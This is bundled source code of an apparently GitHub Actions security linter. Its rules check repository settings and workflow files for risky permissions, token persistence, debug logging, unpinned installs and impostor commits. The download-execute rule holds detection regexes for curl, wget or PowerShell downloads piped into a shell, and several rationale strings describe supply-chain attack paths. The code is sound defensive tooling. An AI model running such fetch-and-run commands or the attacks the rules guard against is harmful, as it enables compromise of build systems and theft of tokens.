  const what2 = "the Actions policy (GET /repos/{owner}/{repo}/actions/permissions)";
  const t = target(ctx, what2);
  if (!t.known) return t;
  const { owner, repo, client } = t.value;
  return apiFact(client, async (c) => (await c.octokit.rest.actions.getGithubActionsPermissionsRepository({ owner, repo })).data, { what: what2, permission: ADMIN });
});
var selectedActionsFact = defineFact("github.actions-selected-actions", async (ctx) => {
  const policy = await ctx.get(actionsPermissionsFact);
  if (!policy.known) return policy;
  if (policy.value.allowed_actions !== "selected") return known(null);
  const what2 = "the allowed actions list (GET /repos/{owner}/{repo}/actions/permissions/selected-actions)";
  const t = target(ctx, what2);
  if (!t.known) return t;
  const { owner, repo, client } = t.value;
  return apiFact(client, async (c) => (await c.octokit.rest.actions.getAllowedActionsRepository({ owner, repo })).data, { what: what2, permission: ADMIN });
});
var forkPrApprovalFact = defineFact("github.actions-fork-pr-approval", async (ctx) => {
  const what2 = "the fork pull request approval policy (GET /repos/{owner}/{repo}/actions/permissions/fork-pr-contributor-approval)";
  const t = target(ctx, what2);
  if (!t.known) return t;
  const { owner, repo, client } = t.value;
  return apiFact(
    client,
    async (c) => (await c.octokit.request("GET /repos/{owner}/{repo}/actions/permissions/fork-pr-contributor-approval", { owner, repo })).data,
    { what: what2, permission: ADMIN }
  );
});
var environmentsFact = defineFact("github.environments", async (ctx) => {
  const what2 = "deployment environments (GET /repos/{owner}/{repo}/environments)";
  if (!ctx.target) return noTarget();
  const { owner, repo } = ctx.target;
  return apiFact(
    ctx.github ?? ctx.elevated,
    async (c) => {
      const all = [];
      for (let page = 1; page <= 10; page += 1) {
        const data = (await c.octokit.rest.repos.getAllEnvironments({ owner, repo, per_page: 100, page })).data;
        const list = data.environments ?? [];
        all.push(...list);
        if (list.length < 100 || all.length >= (data.total_count ?? 0)) break;
      }
      return all;
    },
    // A repository without environments answers 200 with an empty list; 404 is the token's lack of access.
    { what: what2, permission: "Actions: read" }
  );
});
var privateForkPrSettingsFact = defineFact("github.actions-fork-pr-private", async (ctx) => {
  const repository = await ctx.get(repositoryFact);
  if (!repository.known) return repository;
  if (!repository.value.private && repository.value.visibility !== "internal") return known(null);
  const what2 = "fork pull request settings of a private repository (GET /repos/{owner}/{repo}/actions/permissions/fork-pr-workflows-private-repos)";
  const t = target(ctx, what2);
  if (!t.known) return t;
  const { owner, repo, client } = t.value;
  return apiFact(
    client,
    async (c) => (await c.octokit.request("GET /repos/{owner}/{repo}/actions/permissions/fork-pr-workflows-private-repos", { owner, repo })).data,
    { what: what2, permission: ADMIN }
  );
});

// src/rules/build/actions-allowed-actions.ts
var actionsAllowedActions = defineRule({
  meta: {
    id: "actions-allowed-actions",
    area: "build",
    severity: "medium",
    title: "Any action from any owner may run",
    rationale: 'With "Allow all actions and reusable workflows", a workflow change (or a compromised dependency\'s `uses:`) can run code from any account on GitHub. An allow-list (GitHub-owned, verified creators, named owners) limits what a mistake or a malicious pull request can pull in.',
    remediation: 'Settings \u2192 Actions \u2192 General \u2192 Actions permissions: "Allow <owner>, and select non-<owner>, actions and reusable workflows", listing the owners you use (or set it for the organization).',
    references: ["SSC-46", "OSPS-BR-01"],
    access: { token: "elevated", fineGrained: ["Administration: read"], note: "GET /repos/{owner}/{repo}/actions/permissions and /selected-actions" }
  },
  needs: [actionsPermissionsFact, selectedActionsFact],
  defaultOptions: {},
  evaluate(ctx) {
    const policy = ctx.need(actionsPermissionsFact);
    const selected = ctx.need(selectedActionsFact);
    const results = [];
    if (!policy.enabled) return results;
    if (policy.allowed_actions === "all" || policy.allowed_actions === void 0) {
      results.push({ status: "fail", message: "the repository allows all actions and reusable workflows (allowed_actions: all)" });
    } else if (policy.allowed_actions === "selected" && selected) {
      const wildcard = (selected.patterns_allowed ?? []).find((pattern) => pattern.trim() === "*" || pattern.trim() === "*/*");
      if (wildcard) results.push({ status: "fail", message: `the allow-list of actions contains "${wildcard}", which allows every action` });
    }
    return results;
  }
});

// src/rules/build/actions-can-approve-prs.ts
var actionsCanApprovePrs = defineRule({
  meta: {
    id: "actions-can-approve-prs",
    area: "build",
    severity: "high",
    title: "GitHub Actions may approve pull requests",
    rationale: "When workflows can approve pull requests, anyone who can run a workflow with a write token (or inject into one) can approve their own change and satisfy a required review: the review requirement no longer needs a second human.",
    remediation: 'Settings \u2192 Actions \u2192 General \u2192 Workflow permissions: clear "Allow GitHub Actions to create and approve pull requests" (and at organization level).',
    references: ["SSC-48", "OSPS-AC-04.01", "OSPS-QA-07.01"],
    access: { token: "elevated", fineGrained: ["Administration: read"], note: "GET /repos/{owner}/{repo}/actions/permissions/workflow" }
  },
  needs: [actionsWorkflowPermissionsFact],
  defaultOptions: {},
  evaluate(ctx) {
    const fact = ctx.fact(actionsWorkflowPermissionsFact);
    if (!fact.known || !fact.value.can_approve_pull_request_reviews) return [];
    return [{ status: "fail", message: "GitHub Actions can create and approve pull requests in this repository (can_approve_pull_request_reviews: true)" }];
  }
});

// src/rules/build/actions-default-permissions.ts
var actionsDefaultPermissions = defineRule({
  meta: {
    id: "actions-default-permissions",
    area: "build",
    severity: "high",
    title: "Default GITHUB_TOKEN permissions are read and write",
    rationale: 'Every workflow (and job) without its own `permissions:` block gets the repository default. With "Read and write permissions" that is write access to contents, packages, pull requests and more, for every third-party action in every such job.',
    remediation: 'Settings \u2192 Actions \u2192 General \u2192 Workflow permissions: "Read repository contents and packages permissions"; grant writes per job with `permissions:`.',
    references: ["SSC-47", "OSPS-AC-04.01", "Scorecard: Token-Permissions (cannot see this setting)"],
    access: { token: "elevated", fineGrained: ["Administration: read"], note: "GET /repos/{owner}/{repo}/actions/permissions/workflow" }
  },
  needs: [actionsWorkflowPermissionsFact],
  defaultOptions: {},
  evaluate(ctx) {
    const fact = ctx.fact(actionsWorkflowPermissionsFact);
    if (!fact.known || fact.value.default_workflow_permissions === "read") return [];
    return [{ status: "fail", message: "the repository gives the GITHUB_TOKEN read and write permissions by default (default_workflow_permissions: write)" }];
  }
});

// src/rules/build/actions-fork-pr-approval.ts
var ORDER = ["first_time_contributors_new_to_github", "first_time_contributors", "all_external_contributors"];
var LABEL = {
  first_time_contributors_new_to_github: "only first-time contributors who are new to GitHub",
  first_time_contributors: "first-time contributors",
  all_external_contributors: "all outside contributors"
};
var actionsForkPrApproval = defineRule({
  meta: {
    id: "actions-fork-pr-approval",
    area: "build",
    severity: "medium",
    title: "Fork pull request workflows run without maintainer approval",
    rationale: "Workflows triggered by a fork's pull request run the contributor's code. With approval only for accounts new to GitHub, anyone with an older account (or one merged typo fix) runs code on your runners, burns minutes, and probes caches and self-hosted machines.",
    remediation: 'Settings \u2192 Actions \u2192 General \u2192 "Approval for running fork pull request workflows from contributors": "Require approval for all external contributors" (at least "first-time contributors").',
    references: ["SSC-49", "OSPS-BR-01.03"],
    access: { token: "elevated", fineGrained: ["Administration: read"], note: "GET /repos/{owner}/{repo}/actions/permissions/fork-pr-contributor-approval" }
  },
  needs: [forkPrApprovalFact],
  uses: [privateForkPrSettingsFact],
  defaultOptions: { minimum: "first_time_contributors" },
  strictOptions: { minimum: "all_external_contributors" },
  optionsSchema: { type: "object", properties: { minimum: { enum: ORDER, description: "least strict approval policy accepted" } } },
  evaluate(ctx) {
    const fact = ctx.need(forkPrApprovalFact);
    const results = [];
    const actual = fact.approval_policy;
    if (ORDER.indexOf(actual) < ORDER.indexOf(ctx.options.minimum)) {
      results.push({
        status: "fail",
        message: `fork pull request workflows need approval for ${LABEL[actual]} (${actual}); the policy asks for ${LABEL[ctx.options.minimum]}`
      });
    }
    const privateSettings = ctx.fact(privateForkPrSettingsFact);
    if (privateSettings.known && privateSettings.value?.run_workflows_from_fork_pull_requests) {
      const settings = privateSettings.value;
      if (settings.send_write_tokens_to_workflows)
        results.push({
          status: "fail",
          severity: "high",
          message: "workflows from fork pull requests of this private repository get a write token (send_write_tokens_to_workflows: true)"
        });
      if (settings.send_secrets_and_variables)
        results.push({
          status: "fail",
          severity: "high",
          message: "workflows from fork pull requests of this private repository get secrets and variables (send_secrets_and_variables: true)"
        });
      if (!settings.require_approval_for_fork_pr_workflows)
        results.push({
          status: "fail",
          message: "workflows from fork pull requests of this private repository run without approval (require_approval_for_fork_pr_workflows: false)"
        });
    } else if (!privateSettings.known) {
      results.push({ status: "unknown", message: privateSettings.reason, ...privateSettings.permission ? { permission: privateSettings.permission } : {} });
    }
    return results;
  }
});

// src/rules/build/actions-sha-pinning-required.ts
var actionsShaPinningRequired = defineRule({
  meta: {
    id: "actions-sha-pinning-required",
    area: "build",
    severity: "medium",
    title: "GitHub does not enforce SHA pinning of actions",
    rationale: 'The `unpinned-uses` rule checks the workflows of this checkout; the repository setting "Require actions to be pinned to a full-length commit SHA" makes GitHub refuse to run an unpinned action from any branch, including ones this gate never sees.',
    remediation: 'Settings \u2192 Actions \u2192 General \u2192 Actions permissions: enable "Require actions to be pinned to a full-length commit SHA" (or the organization/enterprise policy).',
    references: ["SSC-45", "OSPS-BR-05.01"],
    access: { token: "elevated", fineGrained: ["Administration: read"], note: "GET /repos/{owner}/{repo}/actions/permissions" }
  },
  needs: [actionsPermissionsFact],
  defaultOptions: {},
  evaluate(ctx) {
    const fact = ctx.fact(actionsPermissionsFact);
    if (!fact.known || !fact.value.enabled || fact.value.allowed_actions === "local_only") return [];
    if (fact.value.sha_pinning_required === void 0) {
      return [{ status: "unknown", message: "this GitHub version does not report sha_pinning_required (GET /repos/{owner}/{repo}/actions/permissions)" }];
    }
    if (fact.value.sha_pinning_required) return [];
    return [{ status: "fail", message: "the repository does not require actions to be pinned to a full-length commit SHA (sha_pinning_required: false)" }];
  }
});

// src/rules/build/artipacked.ts
var UPLOADERS = ARTIFACT_UPLOADERS.map((entry2) => entry2.action);
function coversCheckout(paths, checkoutPath) {
  const root = checkoutPath.replace(/^\.\/?/, "").replace(/\/+$/, "");
  const target2 = root === "" ? ".git/config" : `${root}/.git/config`;
  let covered = false;
  for (const raw of paths.split("\n")) {
    const line = raw.trim();
    if (line === "" || line.startsWith("#")) continue;
    if (line.startsWith("!")) {
      if (covered && excludes(line.slice(1).trim(), target2)) covered = false;
      continue;
    }
    if (includes(line, root)) covered = true;
  }
  return covered;
}
function includes(line, root) {
  const path14 = line.replace(/^\.\//, "").replace(/\/+$/, "");
  if (path14 === "." || path14 === "*" || path14 === "**" || path14 === "**/*" || /^\$\{\{\s*github\.workspace\s*\}\}$/.test(path14)) return true;
  if (path14 === ".git" || path14.startsWith(".git/")) return true;
  return root !== "" && (path14 === root || path14 === `${root}/.git` || /^\$\{\{\s*github\.workspace\s*\}\}\//.test(path14) && path14.endsWith(`/${root}`));
}
function excludes(pattern, target2) {
  const path14 = pattern.replace(/^\$\{\{\s*github\.workspace\s*\}\}\//, "").replace(/^\.\//, "").replace(/\/+$/, "");
  if (path14 === "" || path14.includes("${{")) return false;
  const parts = target2.split("/");
  const { minimatch } = globLibrary();
  return parts.some((_, i) => minimatch(parts.slice(0, i + 1).join("/"), path14, { dot: true }));
}
function skipsGitDirectory(step) {
  if (usesAction(step, "actions/upload-pages-artifact")) return true;
  if (!usesAction(step, "actions/upload-artifact") || input(step, "include-hidden-files")?.value.trim().toLowerCase() === "true") return false;
  const version = actionVersion(step);
  if (!version) return false;
  const [major = 0, minor] = version;
  return major > 4 || major === 4 && (minor === void 0 || minor >= 4);
}
var GIT_PUSH = /\bgit\s+push\b|\bgit\s+(?:-c\s+\S+\s+)*push\b/;
var PUSHING_COMMANDS = anyCommand(GIT_PUSHING_COMMANDS);
var PUSHING_ACTIONS = GIT_PUSHING_ACTIONS.map((entry2) => entry2.action);
function scriptPushers(model) {
  const out = /* @__PURE__ */ new Set();
  for (const script of model.scripts.values()) {
    if (GIT_PUSH.test(script.text) || PUSHING_COMMANDS.test(script.text)) for (const caller of script.callers) out.add(caller.node);
  }
  return out;
}
var artipacked = defineWorkflowRule({
  meta: {
    id: "artipacked",
    area: "build",
    severity: "medium",
    title: "Checkout persists the token for later steps (credential persistence)",
    rationale: "`actions/checkout` writes the GITHUB_TOKEN into `.git/config` by default. Every later step of the job, including third-party actions and build scripts, can read it, and uploading the checkout as an artifact publishes it to anyone who can download artifacts.",
    remediation: "Set `persist-credentials: false` on `actions/checkout`; steps that push should use an explicit token (`git push https://x-access-token:${TOKEN}@...` or a dedicated action) scoped to that step.",
    references: ["SSC-50", "OSPS-BR-01.03", "zizmor: artipacked"],
    access: { token: "none" }
  },
  defaultOptions: {},
  step(step, ctx) {
    if (!step.uses || !usesAction(step, "actions/checkout")) return null;
    const persist = step.with.get("persist-credentials");
    const persistText = persist?.value?.value;
    if (persistText !== void 0 && persistText.trim().toLowerCase() === "false") return null;
    if (persistText !== void 0 && persistText.includes("${{")) return null;
    const siblings = siblingSteps(step);
    const later = siblings.slice(siblings.indexOf(step) + 1);
    const checkoutPath = input(step, "path")?.value ?? ".";
    const leak = later.find((candidate) => {
      if (!candidate.uses || !UPLOADERS.some((name) => usesAction(candidate, name))) return false;
      const paths = input(candidate, "path")?.value;
      return paths !== void 0 && !skipsGitDirectory(candidate) && coversCheckout(paths, checkoutPath);
    });
    const pushers = scriptPushers(ctx.model);
    const pushes = later.some(
      (candidate) => candidate.run && (GIT_PUSH.test(candidate.run.value) || PUSHING_COMMANDS.test(candidate.run.value)) || pushers.has(candidate.node) || usesAction(candidate, ...PUSHING_ACTIONS)
    );
    const where = stepOwner(step);
    const tokenInput = input(step, "token")?.value.trim();
    const credential = tokenInput && !/^\$\{\{\s*(github\.token|secrets\.github_token)\s*\}\}$/i.test(tokenInput) ? `the token from ${tokenInput}` : "the GITHUB_TOKEN";
    const shown = persistText !== void 0;
    const anchor = persist?.value ? persist.value.node : step.uses.node;
    const fix = "with:\n  persist-credentials: false";
    let severity = "medium";
    let message2 = `${where}: actions/checkout keeps ${credential} in .git/config${shown ? " (persist-credentials is true)" : ""}; ${later.length} later step${later.length === 1 ? "" : "s"} can read it`;
    if (leak) {
      severity = "high";
      const leakPath = input(leak, "path")?.value.split("\n")[0];
      message2 = `${where}: actions/checkout keeps ${credential} in .git/config and step ${leak.index + 1} uploads ${leakPath ?? "the checkout"}, which includes it`;
    } else if (later.length === 0 && where === "composite action") {
      message2 = `${where}: actions/checkout keeps ${credential} in .git/config; the steps of the calling job that run after this action can read it`;
    } else if (later.length === 0) {
      severity = "low";
      message2 = `${where}: actions/checkout keeps ${credential} in .git/config (no later step uses it; set persist-credentials: false anyway)`;
    } else if (pushes) {
      severity = "low";
      message2 = `${where}: actions/checkout keeps ${credential} in .git/config for a later git push; every other later step can read it too`;
    }
    const confidence = later.length === 0 && where === "composite action" ? "medium" : "high";
    return {
      status: "fail",
      severity,
      message: message2,
      location: nodeLocation(stepDoc(step), anchor),
      confidence,
      ...leak ? { relatedLocations: [related(stepLocation(leak), `step ${leak.index + 1} uploads ${input(leak, "path")?.value.split("\n")[0] ?? "the checkout"}`)] } : {},
      fix
    };
  }
});

// src/rules/build/env-flags-support.ts
var LOOSE_TRUE = (text) => /^(true|1|yes|on)$/i.test(text.trim());
var DOTNET_TRUE = (text) => /^true$/i.test(text.trim());
function truthy(text, reading) {
  if (text === void 0) return false;
  if (text.includes("${{")) return "expression";
  return reading(text) ? "true" : false;
}
function findEnvFlags(model, names, reading = LOOSE_TRUE) {
  const wanted = new Set(names.map((name) => name.toUpperCase()));
  const found = [];
  const fromEnv = (doc, env, where) => {
    for (const item of env.values()) {
      if (!wanted.has(item.name.toUpperCase())) continue;
      const value = truthy(item.value?.value, reading);
      if (value) found.push({ name: item.name, where, how: "env", value, location: nodeLocation(doc, item.keyNode) });
    }
  };
  const walk = walkOf(model);
  for (const workflow of walk.workflows) fromEnv(workflow, workflow.env, "the workflow");
  for (const job of walk.jobs) fromEnv(job.workflow, job.env, `job ${job.id}`);
  const pattern = new RegExp(`\\b(${names.join("|")})=(?:"|')?(\\$\\{\\{[^}]*\\}\\}|[^\\s"';&|>]+)`, "gi");
  for (const step of walk.steps) {
    const doc = stepDoc(step);
    const where = `${stepOwner(step)}, step ${step.index + 1}`;
    fromEnv(doc, step.env, where);
    const run = step.run;
    if (!run || !/GITHUB_ENV/.test(run.value)) continue;
    for (const match2 of run.value.matchAll(pattern)) {
      const lineEnd = run.value.indexOf("\n", match2.index);
      const line = run.value.slice(match2.index, lineEnd === -1 ? void 0 : lineEnd);
      const value = truthy(match2[2], reading);
      if (!/GITHUB_ENV/.test(line) || !value) continue;
      found.push({
        name: match2[1],
        where,
        how: "github-env",
        value,
        location: strLocation(doc, run, match2.index, match2.index + match2[0].length)
      });
    }
  }
  return found;
}

// src/rules/build/debug-logging.ts
var debugLogging = defineWorkflowRule({
  meta: {
    id: "debug-logging",
    area: "build",
    severity: "low",
    title: "Debug logging switched on in the workflow",
    rationale: "Debug logs print the inputs, environment and outputs of every step and runner internals. Left on in a workflow file, every run (including on public repositories, where logs are public) exposes far more than intended; masking only covers registered secrets.",
    remediation: 'Remove the variable. To debug a run, use "Re-run with debug logging" or set the `ACTIONS_STEP_DEBUG` repository variable temporarily.',
    references: ["SSC-25", "poutine: debug_enabled"],
    access: { token: "none" }
  },
  defaultOptions: {},
  model(model) {
    return findEnvFlags(model, ["ACTIONS_STEP_DEBUG", "ACTIONS_RUNNER_DEBUG"]).map((flag) => ({
      status: "fail",
      ...flag.value === "expression" ? { severity: "info" } : {},
      message: `${flag.where} sets ${flag.name}${flag.how === "github-env" ? " through $GITHUB_ENV" : ""}${flag.value === "expression" ? " from an expression" : ""}: debug logs of every run`,
      location: flag.location,
      fix: `remove ${flag.name}; use "Re-run jobs with debug logging" when needed`
    }));
  }
});

// src/rules/build/download-execute.ts
var PIPE_TO_SHELL = /\b(curl|wget)\b[^|;&\n]*\|\s*(?:sudo\s+(?:-\S+\s+)*)?(?:env\s+\S+=\S*\s+)*(bash|sh|zsh|dash|ksh|fish|python[\d.]*|node|perl|ruby|pwsh|powershell)\b/g;
var SHELL_OF_DOWNLOAD = /\b(bash|sh|zsh|python[\d.]*)\s+(?:-\w+\s+)*(?:"\$\(|'\$\(|\$\(|<\()\s*(curl|wget)\b/g;
var POWERSHELL = /\b(iwr|irm|Invoke-WebRequest|Invoke-RestMethod)\b[^|\n]*\|\s*(iex|Invoke-Expression)\b|\b(iex|Invoke-Expression)\s*\(?\s*\(?\s*(?:New-Object\s+(?:System\.)?Net\.WebClient\)?\.DownloadString|iwr|irm|Invoke-WebRequest|Invoke-RestMethod)\b/gi;
var DOWNLOADERS = /\b(?:curl|wget|iwr|irm|iex)\b|Invoke-|DownloadString/i;
var INSTALLERS = /\b(?:pip[\d.]*|python[\d.]*|uvx?|pipx|npm|pnpm|yarn|bun|npx|go|gem|cargo)\b/;
var INSTALL_LINE = /\b(?:pip[\d.]*|uv|pipx|gem|cargo|go)\b[^\n]*\b(?:install|run|tool|i)\b|\buvx\b|\bnpx\b|\b(?:npm|pnpm|yarn|bun)\b[^\n]*\b(?:install|i|add|in)\b|\bpython[\d.]*\b[^\n]*\bpip/;
var PIP_TOOLING = /* @__PURE__ */ new Set(["pip", "setuptools", "wheel"]);
var REPO_PATH = String.raw`(?:[^/\s"'$]+\/[^/\s"']+|\$\{?GITHUB_REPOSITORY\}?|\$\{\{\s*github\.repository\s*\}\})`;
var GITHUB_FILE_AT = new RegExp(String.raw`https?:\/\/(?:github\.com\/${REPO_PATH}\/(?:raw|blob)\/|raw\.githubusercontent\.com\/${REPO_PATH}\/)([^/\s"']+)\/`);
function immutableDownload(command) {
  const ref = GITHUB_FILE_AT.exec(command)?.[1];
  return ref !== void 0 && (/^[0-9a-f]{40}$/i.test(ref) || /^\$\{?GITHUB_SHA\}?$/.test(ref) || /^\$\{\{\s*github\.sha\s*\}\}$/.test(ref));
}
function npmPinned(name) {
  return /^(@[^/]+\/)?[^@]+@v?\d+\.\d+\.\d+(?:[-+][\w.-]+)?$/.test(name) || /^(@[^/]+\/)?[^@]+@npm:\S+@\d+\.\d+\.\d+/.test(name) || /#[0-9a-f]{40}$/i.test(name) || /^https?:\/\/\S+\.(?:tgz|tar\.gz)$/.test(name) || name.startsWith(".") || name.startsWith("/");
}
function words2(command) {
  return command.replace(/\$\{\{[^}]*\}\}/g, (expression) => expression.replace(/\s+/g, "")).trim().split(/\s+/).map((word) => word.replace(/^["']|["']$/g, ""));
}
function unpinnedInstall(command) {
  const argv = words2(command);
  while (argv.length > 0 && (argv[0] === "sudo" || argv[0] === "time" || argv[0] === "exec" || argv[0] === "env" || /^[A-Za-z_]\w*=/.test(argv[0])))
    argv.shift();
  const [cmd, sub, ...rest] = argv;
  if (!cmd) return void 0;
  const positional = (args, valued) => {
    const out = [];
    for (let i = 0; i < args.length; i += 1) {
      const arg = args[i];
      if (arg.startsWith("-")) {
        if (valued.includes(arg)) i += 1;
        continue;
      }
      if (/^[&|;>]/.test(arg) || arg.startsWith("$") || arg.startsWith("#")) break;
      out.push(arg);
    }
    return out;
  };
  let pipArgs;
  if (/^pip[\d.]*$/.test(cmd) && sub === "install") pipArgs = rest;
  else if (/^python[\d.]*$/.test(cmd) && sub === "-m" && /^pip[\d.]*$/.test(rest[0] ?? "") && rest[1] === "install") pipArgs = rest.slice(2);
  else if (cmd === "uv" && sub === "pip" && rest[0] === "install") pipArgs = rest.slice(1);
  else if (cmd === "pipx" && (sub === "install" || sub === "run")) pipArgs = rest;
  if (pipArgs) {
    const tool = cmd === "pipx" ? `pipx ${sub}` : cmd === "uv" ? "uv pip install" : "pip install";
    if (pipArgs.some((arg) => ["-r", "--requirement", "-c", "--constraint", "--require-hashes", "-e", "--editable"].includes(arg))) return void 0;
    const spec = cmd === "pipx" && sub === "run" ? pipArgs[pipArgs.indexOf("--spec") + 1] : void 0;
    const named2 = positional(pipArgs, [
      "-i",
      "--index-url",
      "--extra-index-url",
      "-f",
      "--find-links",
      "-t",
      "--target",
      "--python",
      "--prefix",
      "--root",
      "--spec",
      "--pip-args"
    ]);
    const packages = (cmd === "pipx" && sub === "run" ? pipArgs.includes("--spec") ? spec ? [spec] : [] : named2.slice(0, 1) : named2).filter(
      (name) => !/[=<>~!@]=?|\.whl$|\.tar\.gz$|^\.|^\/|:\/\//.test(name) && !PIP_TOOLING.has(name.toLowerCase().replace(/\[.*\]$/, ""))
    );
    return packages.length > 0 ? { tool, packages } : void 0;
  }
  const npmInstall = cmd === "npm" && ["install", "i", "add", "in", "isntall"].includes(sub ?? "") || (cmd === "pnpm" || cmd === "bun") && ["add", "install", "i"].includes(sub ?? "") || cmd === "yarn" && sub === "add";
  const yarnGlobal = cmd === "yarn" && sub === "global" && rest[0] === "add";
  if (npmInstall || yarnGlobal) {
    const global = yarnGlobal || rest.some((arg) => arg === "-g" || arg === "--global");
    const packages = positional(yarnGlobal ? rest.slice(1) : rest, [
      "--registry",
      "--prefix",
      "-w",
      "--workspace",
      "--omit",
      "--include",
      "--filter",
      "-C",
      "--dir",
      "--cwd",
      "--loglevel",
      "--tag",
      "--cache",
      "--userconfig",
      "--location",
      "--install-strategy"
    ]).filter((name) => !npmPinned(name) && !/[$}{]/.test(name));
    return packages.length > 0 ? { tool: global ? `${cmd} global install` : `${cmd} ${sub}`, packages } : void 0;
  }
  if (cmd === "npx" && sub && !sub.startsWith("-")) {
    const name = sub;
    if (npmPinned(name)) return void 0;
    return { tool: "npx", packages: [name] };
  }
  const uvTool = cmd === "uvx" ? [sub, ...rest] : cmd === "uv" && sub === "tool" && (rest[0] === "run" || rest[0] === "install") ? rest.slice(1) : void 0;
  if (uvTool) {
    const args = uvTool.filter((arg) => arg !== void 0);
    const from = args.indexOf("--from");
    const name = from !== -1 ? args[from + 1] : positional(args, ["--python", "-p", "--with", "--index", "--index-url", "--extra-index-url"])[0];
    if (!name || /[=<>~!@]=?|^\.|^\/|:\/\//.test(name)) return void 0;
    return { tool: cmd === "uvx" ? "uvx" : `uv tool ${rest[0]}`, packages: [name] };
  }
  if (cmd === "go" && sub === "install") {
    const packages = positional(rest, ["-ldflags", "-tags", "-o"]).filter(
      (name) => name.includes("/") && (!name.includes("@") || /@(latest|main|master|HEAD)$/.test(name)) && !name.startsWith(".")
    );
    return packages.length > 0 ? { tool: "go install", packages } : void 0;
  }
  if (cmd === "gem" && (sub === "install" || sub === "i")) {
    if (rest.some((arg) => arg === "-v" || arg === "--version" || arg.startsWith("--version="))) return void 0;
    const packages = positional(rest, ["--source", "-i", "--install-dir", "-n", "--bindir"]).filter((name) => !name.endsWith(".gem") && !name.includes(":"));
    return packages.length > 0 ? { tool: "gem install", packages } : void 0;
  }
  if (cmd === "cargo" && sub === "install") {
    if (rest.some((arg) => arg === "--version" || arg === "--vers" || arg === "--path" || arg === "--git" || arg.startsWith("--version="))) return void 0;
    const packages = positional(rest, ["--root", "--target", "--features", "--registry", "--index", "--branch", "--tag", "--rev", "-j", "--jobs"]).filter(
      (name) => !name.includes("@")
    );
    return packages.length > 0 ? { tool: "cargo install", packages } : void 0;
  }
  return void 0;
}
function scanScript(script) {
  const found = [];
  const downloads = DOWNLOADERS.test(script);
  if (!downloads && !INSTALLERS.test(script)) return found;
  for (const line of logicalLines(script)) {
    const text = line.text;
    if (/^\s*#/.test(text)) continue;
    const original = (start, end) => {
      const from = line.offset(start);
      const to = line.offset(Math.max(start, end - 1));
      return { index: from, length: to + 1 - from };
    };
    let piped = false;
    for (const pattern of downloads && DOWNLOADERS.test(text) ? [PIPE_TO_SHELL, SHELL_OF_DOWNLOAD, POWERSHELL] : []) {
      pattern.lastIndex = 0;
      for (const match2 of text.matchAll(pattern)) {
        piped = true;
        if (immutableDownload(match2[0])) continue;
        found.push({
          ...original(match2.index, match2.index + match2[0].length),
          severity: "medium",
          message: `downloads and runs a script without checking it: ${match2[0].replace(/\s+/g, " ").slice(0, 80)}`
        });
      }
    }
    if (piped || !INSTALL_LINE.test(text)) continue;
    let offset = 0;
    for (const command of text.split(/(&&|\|\||;|\|)/)) {
      const start = offset;
      offset += command.length;
      if (/^(&&|\|\||;|\|)$/.test(command)) continue;
      const install = unpinnedInstall(command);
      if (!install) continue;
      const lead = command.length - command.trimStart().length;
      const trimmed = command.trim();
      found.push({
        ...original(start + lead, start + lead + trimmed.length),
        severity: "low",
        message: `${install.tool} of ${install.packages.join(", ")} without a pinned version: each run may install something different`
      });
    }
  }
  return found;
}
var downloadExecute = defineWorkflowRule({
  meta: {
    id: "download-execute",
    area: "build",
    severity: "medium",
    title: "Downloaded code executed unverified, or packages installed unpinned",
    rationale: "`curl ... | sh` runs whatever the server sends at that moment, with the job's token and secrets in reach; unpinned `pip install`, `npm i -g`, `go install ...@latest` do the same through a registry. A compromised host or package changes the build without a change to the repository.",
    remediation: "Download to a file and check its SHA-256 before running it (or use a pinned action); pin ad-hoc installs to exact versions (`pip install tool==1.2.3`, `npm i -g tool@1.2.3`, `go install x@v1.2.3`), better with hashes or a lockfile.",
    references: [
      "SSC-45",
      "OSPS-BR-05.01",
      "Scorecard: Pinned-Dependencies (downloadThenRun, pipCommand, npmCommand, goCommand)",
      "poutine: unverified_script_exec",
      "zizmor: adhoc-packages"
    ],
    access: { token: "none" }
  },
  defaultOptions: {},
  step(step) {
    const run = step.run;
    if (!run) return null;
    const file = stepDoc(step).file;
    return scanScript(run.value).map((finding) => ({
      status: "fail",
      severity: finding.severity,
      message: `${stepOwner(step)}, step ${step.index + 1}: ${finding.message}`,
      // The command's own characters, even when it is the whole value (a block scalar starts at its `|`).
      location: locate(file, sourceSpan(file, run, finding.index, finding.index + finding.length))
    }));
  }
});

// src/rules/build/hardcoded-container-credentials.ts
var hardcodedContainerCredentials = defineWorkflowRule({
  meta: {
    id: "hardcoded-container-credentials",
    area: "build",
    severity: "high",
    title: "Container registry password written in the workflow",
    rationale: "A password in the workflow file is readable by everyone who can read the repository (and its history, forever), and it is not masked in logs.",
    remediation: "Store it as a secret and reference it: `password: ${{ secrets.REGISTRY_PASSWORD }}`; rotate the exposed one. For GHCR use `${{ secrets.GITHUB_TOKEN }}` with `packages: read`.",
    references: ["SSC-25", "OSPS-BR-07.01", "zizmor: hardcoded-container-credentials", "actionlint: credentials"],
    access: { token: "none" }
  },
  defaultOptions: {},
  job(job) {
    const results = [];
    const check3 = (container, where) => {
      const password = container?.credentials?.password;
      if (!password || password.value.trim() === "" || password.value.includes("${{")) return;
      results.push({
        status: "fail",
        message: `${where}: the registry password is a literal in the workflow`,
        location: nodeLocation(job.workflow, password.node),
        fix: "password: ${{ secrets.REGISTRY_PASSWORD }}"
      });
    };
    check3(job.container, `job ${job.id}: container`);
    for (const service of job.services) check3(service, `job ${job.id}: service ${service.name}`);
    return results;
  }
});

// src/rules/build/impostor-commit.ts
var impostorCommit = defineWorkflowRule({
  meta: {
    id: "impostor-commit",
    area: "build",
    severity: "critical",
    title: "Pinned commit not in the action repository (impostor commit)",
    rationale: 'GitHub resolves `owner/repo@<sha>` for any commit in the repository\'s fork network. An attacker can push a commit to a fork and propose it as a "pin" of the real action; the SHA looks legitimate but the code is theirs.',
    remediation: "Replace the SHA with the commit of a release tag of the action repository itself (check it on the repository's Releases page or with `git ls-remote`), and find out how the SHA got there.",
    references: ["SSC-45", "OSPS-BR-01", "zizmor: impostor-commit"],
    access: { token: "github-token", githubToken: [], note: "GraphQL (tags, branches) plus one REST compare per SHA that is not a tag or branch head" }
  },
  needs: [actionRefsFact],
  gapsHandled: [actionRefsFact],
  defaultOptions: {},
  model(_model, ctx) {
    const resolved = resolvedSites(ctx);
    const results = [];
    for (const site of resolved.sites) {
      const resolution = resolved.refs.refs[site.key];
      const location = locate(site.file, site.node);
      if (!resolution) {
        if (FULL_SHA.test(site.ref)) results.push({ status: "unknown", message: `${site.value}: the pin was not resolved`, location });
        continue;
      }
      if (!resolution.isSha) continue;
      const slug = `${site.owner}/${site.repo}`;
